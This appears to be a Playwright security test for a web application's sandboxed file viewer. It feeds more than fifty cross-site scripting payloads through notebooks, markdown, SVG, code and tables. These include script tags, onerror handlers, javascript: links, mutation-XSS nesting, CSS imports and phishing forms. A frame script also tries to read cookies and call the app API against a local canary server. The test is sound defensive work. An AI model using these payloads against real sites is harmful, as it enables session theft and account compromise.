// T15: what people have written is hostile. Whatever a file holds, no script of it runs, nothing of it reaches the
// network, the application or the person's cookies; and even a script in the frame could do nothing.

import { createServer, type Server as Http } from 'node:http';
import type { AddressInfo } from 'node:net';
import { type Browser, type BrowserContext, expect, test } from '@playwright/test';
import { setUp } from './support/people.js';
import { Server } from './support/server.js';
import { ViewerFrame } from './support/viewer.js';

type State = Awaited<ReturnType<BrowserContext['storageState']>>;

let server: Server;
let canary: Http;
let asked: string[];
let elsewhere: string;
let state: State;

test.beforeAll(async ({ browser }) => {
  server = await Server.start();
  const page = await browser.newPage();
  await setUp(page, server);
  state = await page.context().storageState();
  await page.close();
  canary = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.setHeader('access-control-allow-origin', '*').end('canary');
  });
  await new Promise<void>((done) => canary.listen(0, '127.0.0.1', done));
  elsewhere = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`;
});

test.beforeEach(() => {
  asked = [];
});

test.afterAll(async () => {
  canary?.close();
  await server?.end();
});

const CALL = `parent.postMessage({canary:1},'*')`;

/** Markup that wants to run, to load, to lead away or to ask for a password. */
const payloads = (away: string): string[] => [
  `<script>${CALL}</script>`,
  `<script src="${away}/script.js"></script>`,
  `<script type="module">import "${away}/module.js"</script>`,
  `<img src=x onerror="${CALL}">`,
  `<img src="${away}/img.png"><img srcset="${away}/set.png 1x">`,
  `<svg onload="${CALL}"><circle r=9 /></svg>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><script href="${away}/svg.js" /></svg>`,
  `<svg><image href="${away}/image.png" /><use href="${away}/use.svg#a" /></svg>`,
  `<svg><animate onbegin="${CALL}" attributeName=x dur=1s /></svg>`,
  `<svg><a xlink:href="javascript:${CALL}"><text y=20>click</text></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${CALL}</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${CALL}"></style></mglyph></table></mtext></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror="${CALL}"></annotation-xml></math>`,
  `<math href="javascript:${CALL}"><mi>click</mi></math>`,
  `<iframe src="javascript:${CALL}"></iframe>`,
  `<iframe src="${away}/iframe"></iframe>`,
  `<iframe srcdoc="<script>top.postMessage({canary:1},'*')</script>"></iframe>`,
  `<object data="${away}/object"></object><embed src="${away}/embed">`,
  `<object data="data:text/html,<script>${CALL}</script>"></object>`,
  `<a href="javascript:${CALL}">click</a>`,
  `<a href="JaVaScRiPt&colon;${CALL}">click</a>`,
  `<a href="data:text/html,<script>${CALL}</script>">click</a>`,
  `<a href="${away}/link" target="_top">click</a><a href="${away}/blank" target="_blank">click</a>`,
  `<a href="${away}/download" download ping="${away}/ping">click</a>`,
  `<form action="${away}/form"><input name=password><button>Sign in</button></form>`,
  `<button formaction="javascript:${CALL}">click</button>`,
  `<input autofocus onfocus="${CALL}">`,
  `<body onload="${CALL}"><body onpageshow="${CALL}">`,
  `<details open ontoggle="${CALL}"><summary>x</summary></details>`,
  `<video autoplay src="${away}/video.mp4" onerror="${CALL}"><source src="${away}/source.mp4" onerror="${CALL}"></video>`,
  `<audio src="${away}/audio.mp3" autoplay></audio><track src="${away}/track.vtt">`,
  `<link rel="stylesheet" href="${away}/style.css"><link rel="prefetch" href="${away}/prefetch">`,
  `<link rel="dns-prefetch" href="${away}"><link rel="preconnect" href="${away}">`,
  `<style>@import "${away}/import.css"; body { background: url(${away}/background.png) }</style>`,
  `<style>@font-face { font-family: x; src: url(${away}/font.woff) } * { font-family: x }</style>`,
  `<div style="background: url(${away}/inline.png); behavior: url(${away}/htc)">x</div>`,
  `<table background="${away}/table.png"><tr><td background="${away}/td.png">x</td></tr></table>`,
  `<meta http-equiv="refresh" content="0;url=${away}/refresh">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<base href="${away}/"><img src="base.png">`,
  `<img name="body"><img name="parentNode"><form id="querySelector"><input name="attributes"></form>`,
  `<template><script>${CALL}</script></template><noscript><img src=x onerror="${CALL}"></noscript>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>"></noscript>`,
  `<xmp><img title="</xmp><img src=x onerror=${CALL}>"></xmp><!--><img src=x onerror="${CALL}">-->`,
  `<x-canary onclick="${CALL}" onmouseover="${CALL}" tabindex=0 onfocus="${CALL}">click</x-canary>`,
  `<portal src="${away}/portal"></portal><fencedframe src="${away}/fenced"></fencedframe>`,
  `<div popover id=p onbeforetoggle="${CALL}">x</div><button popovertarget=p>click</button>`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CALL}'><image href='${away}/inner.png'/></svg>">`,
  `[click](javascript:${CALL}) [click](${away}/md) ![x](${away}/md.png) <${away}/auto>`,
  `[click]: javascript:${CALL}\n[click] ![x](javascript:${CALL}) ![" onerror="${CALL}](x.png)`,
  '```html" onload="' + CALL + '\n<script>' + CALL + '</script>\n```',
  `$\\href{javascript:${CALL}}{click}$ $\\includegraphics{${away}/tex.png}$ $\\htmlData{x=1}{x}$`,
];

const notebook = (payload: string) => {
  const outputs = ['text/html', 'text/markdown', 'image/svg+xml', 'text/latex', 'text/plain', 'image/png'].map((type) => ({
    output_type: 'display_data',
    data: { [type]: payload },
  }));
  const more = [
    { output_type: 'stream', name: 'stdout', text: `\u001b]8;;javascript:${CALL}\u0007click\u001b]8;;\u0007${payload}` },
    { output_type: 'error', ename: payload, evalue: payload, traceback: [`\u001b[31m${payload}\u001b[0m`] },
    { output_type: 'display_data', data: { 'application/vnd.plotly.v1+json': {}, 'text/html': payload } },
    { output_type: 'display_data', data: { [payload]: payload } },
    { output_type: 'display_data', data: { 'image/png': '"><img src=x onerror=' + CALL + '>' } },
  ];
  const attachments = { 'a.png': { 'image/png': '" onerror="' + CALL } };
  return JSON.stringify({
    nbformat: 4,
    metadata: { language_info: { name: payload } },
    cells: [
      { cell_type: 'markdown', id: payload, source: `${payload}\n\n![x](attachment:a.png)`, attachments },
      { cell_type: 'code', source: payload, execution_count: payload, outputs: [...outputs, ...more] },
      { cell_type: 'raw', source: payload },
      { cell_type: payload, source: [payload] },
    ],
  });
};

test('t15 no payload of a file runs, loads, leads away or asks', async ({ browser }) => {
  test.setTimeout(240_000);
  const context = await browser.newContext({ storageState: state });
  const page = await context.newPage();
  const events: string[] = [];
  page.on('dialog', (dialog) => (events.push(`dialog ${dialog.message()}`), dialog.dismiss()));
  page.on('download', () => events.push('download'));
  context.on('page', (other) => events.push(`page ${other.url()}`));
  const viewer = await ViewerFrame.open(page, server);
  const [top, own] = [page.url(), viewer.frame.url()];
  expect(new URL(own).host).toBe(`view.atelier-run.localhost:${server.port}`);
  page.on('framenavigated', (frame) => events.push(`went to ${frame.url()}`));
  const requests: string[] = [];
  page.on('request', (request) => requests.push(request.url()));

  const all = payloads(elsewhere);
  expect(all.length).toBeGreaterThan(50);
  for (const [index, payload] of all.entries()) {
    const orders = [
      { kind: { name: 'notebook' }, file: notebook(payload) },
      { kind: { name: 'notebook' }, before: notebook(payload), after: notebook(`${payload} `) },
      { kind: { name: 'markdown' }, name: payload, file: payload },
      { kind: { name: 'image' }, name: 'x.svg', file: payload },
      { kind: { name: 'code', language: payload }, file: payload },
      { kind: { name: 'code', language: 'xml' }, file: payload },
      { kind: { name: 'table' }, file: `a,b\n${payload},"${payload.replaceAll('"', '""')}"\n` },
      { kind: { name: 'code' }, before: payload, after: `${payload}\n${payload}` },
    ];
    for (const order of orders) {
      expect(await viewer.show(order), `${index}: ${payload}`).toEqual({ shown: true });
      // A person clicks on all there is, also in what is folded and in parts of their own.
      await viewer.frame.evaluate(() => {
        document.querySelectorAll('details').forEach((details) => (details.open = true));
        const roots: ParentNode[] = [document, ...[...document.querySelectorAll('*')].flatMap((each) => each.shadowRoot ?? [])];
        for (const root of roots) {
          for (const each of root.querySelectorAll<HTMLElement>('a, button, input, summary, x-canary, text, mi, math, svg, img')) {
            each.focus?.();
            each.dispatchEvent(new MouseEvent('mouseover', { bubbles: true, composed: true }));
            each.dispatchEvent(new MouseEvent('click', { bubbles: true, composed: true, cancelable: true }));
          }
        }
      });
      const left = await viewer.frame.evaluate(() => {
        const roots: ParentNode[] = [document, ...[...document.querySelectorAll('*')].flatMap((each) => each.shadowRoot ?? [])];
        const bad = 'script, iframe, object, embed, form, input, button, textarea, select, base, link, meta[http-equiv], video, audio, portal, fencedframe';
        const found = roots.flatMap((root) => [...(root === document ? document.body : root).querySelectorAll(bad)]);
        const handlers = roots.flatMap((root) => [...root.querySelectorAll('*')].filter((each) => [...each.attributes].some(({ name }) => name.startsWith('on'))));
        return [...found, ...handlers].map((each) => each.outerHTML);
      });
      expect(left, `${index}: ${payload}`).toEqual([]);
    }
  }
  // Nothing is to come: so long it is waited for.
  await page.waitForTimeout(1500);
  const said = (await viewer.heard()).filter((message) => JSON.stringify(message ?? null).includes('"canary"'));
  expect(said).toEqual([]);
  expect(asked).toEqual([]);
  expect(events).toEqual([]);
  expect(requests.filter((url) => !url.startsWith('blob:') && !url.startsWith('data:') && !url.startsWith(server.url))).toEqual([]);
  expect([page.url(), viewer.frame.url()]).toEqual([top, own]);
  await context.close();
});

test('t15 even a script in the frame could do nothing', async ({ browser }) => {
  await isPowerless(browser, server, state);
});

test('t15 nor could it where sessions have no domain and the application has the frame', async ({ browser }) => {
  const other = await Server.start({ sessionPorts: true });
  try {
    const page = await browser.newPage();
    await setUp(page, other);
    await isPowerless(browser, other, await page.context().storageState());
    await page.close();
  } finally {
    await other.end();
  }
});

test('t15 the frame has an address of its own, where nothing else is and nobody else may show it', async ({ request }) => {
  const get = (host: string, path: string) =>
    request.get(`http://127.0.0.1:${server.port}${path}`, { headers: { host: `${host}:${server.port}` }, maxRedirects: 0 });
  const way = await get('atelier.localhost', '/_viewer');
  expect(way.status()).toBe(307);
  const { location } = way.headers();
  expect(location).toContain(`http://view.atelier-run.localhost:${server.port}/assets/viewer-`);
  const frame = await get('view.atelier-run.localhost', new URL(location).pathname);
  expect(frame.status()).toBe(200);
  const policy = frame.headers()['content-security-policy'];
  expect(policy).toContain(`frame-ancestors ${server.url};`);
  expect(policy).toContain('sandbox allow-scripts;');
  expect(frame.headers()['x-content-type-options']).toBe('nosniff');
  for (const path of ['/', '/acme', '/api/v1/me', '/assets/x.js', '/_atelier/enter', '/_viewer']) {
    const answer = await get('view.atelier-run.localhost', path);
    expect(answer.status(), path).toBe(404);
    expect(answer.headers()['content-security-policy']).toContain('sandbox');
  }
});

/** As if all guards of the script had failed: what runs in the frame tries everything. */
async function isPowerless(browser: Browser, server: Server, state: State): Promise<void> {
  const context = await browser.newContext({ storageState: state });
  const page = await context.newPage();
  const viewer = await ViewerFrame.open(page, server);
  const top = page.url();
  let popups = 0;
  context.on('page', () => popups++);
  let downloads = 0;
  page.on('download', () => downloads++);
  const tried = await viewer.frame.evaluate(
    async ({ away, app }) => {
      const attempt = async (what: () => unknown) => {
        try {
          return String(await what());
        } catch (error) {
          return (error as Error).name;
        }
      };
      const loaded = (element: HTMLElement & { src?: string }, address: string) =>
        new Promise((done) => {
          element.onload = () => done('loaded');
          element.onerror = () => done('refused');
          element.src = address;
          document.body.append(element);
        });
      const results: Record<string, string> = {
        origin: String(self.origin),
        cookie: await attempt(() => document.cookie),
        storage: await attempt(() => localStorage.length),
        database: await attempt(() => new Promise((done, fail) => {
          const asked = indexedDB.open('x');
          asked.onsuccess = () => done('opened');
          asked.onerror = () => fail(asked.error);
        })),
        parent: await attempt(() => parent.document.title),
        fetch: await attempt(() => fetch(`${away}/fetch`, { mode: 'no-cors' })),
        api: await attempt(() => fetch(`${app}/api/v1/me`, { credentials: 'include' })),
        beacon: await attempt(() => navigator.sendBeacon(`${away}/beacon`, 'x')),
        socket: await attempt(() => new Promise((done, fail) => {
          const socket = new WebSocket(`${away.replace('http', 'ws')}/socket`);
          socket.onopen = () => done('open');
          socket.onerror = () => fail(new Error('refused'));
        })),
        image: await attempt(() => loaded(new Image(), `${away}/image`)),
        script: await attempt(() => {
          const script = document.createElement('script');
          (script as any).src = `${away}/script`;
          document.body.append(script);
        }),
        inline: await attempt(() => {
          const place = document.createElement('div');
          place.innerHTML = '<b>x</b>';
        }),
        evaluated: await attempt(() => (0, eval)('1 + 1')),
        worker: await attempt(() => new Worker(URL.createObjectURL(new Blob(['1'])))),
        service: await attempt(() => navigator.serviceWorker.register('/x.js')),
        popup: await attempt(() => window.open(`${away}/popup`)),
        top: await attempt(() => {
          window.top!.location.href = `${away}/top`;
        }),
        clipboard: await attempt(() => navigator.clipboard.readText()),
      };
      const form = document.createElement('form');
      form.action = `${away}/form`;
      document.body.append(form);
      results.form = await attempt(() => form.submit());
      const link = document.createElement('a');
      link.href = 'data:text/plain,x';
      link.download = 'x.txt';
      link.click();
      const frame = document.createElement('iframe');
      frame.src = `${away}/frame`;
      document.body.append(frame);
      alert('x');
      await new Promise((done) => setTimeout(done, 500));
      return results;
    },
    { away: elsewhere, app: server.url },
  );
  expect(tried.origin).toBe('null');
  for (const what of ['cookie', 'storage', 'database', 'parent', 'fetch', 'api', 'socket', 'inline', 'evaluated', 'service', 'top', 'script']) {
    expect(tried[what], what).toMatch(/Error$/);
  }
  expect(tried.image).toBe('refused');
  expect(tried.popup).toBe('null');
  // Leading itself away is refused by the page around it.
  await viewer.frame.evaluate((away) => void (location.href = `${away}/self`), elsewhere).catch(() => undefined);
  // Nothing is to come: so long it is waited for.
  await page.waitForTimeout(1000);
  expect(asked).toEqual([]);
  expect([popups, downloads, page.url()]).toEqual([0, 0, top]);
  await context.close();
}
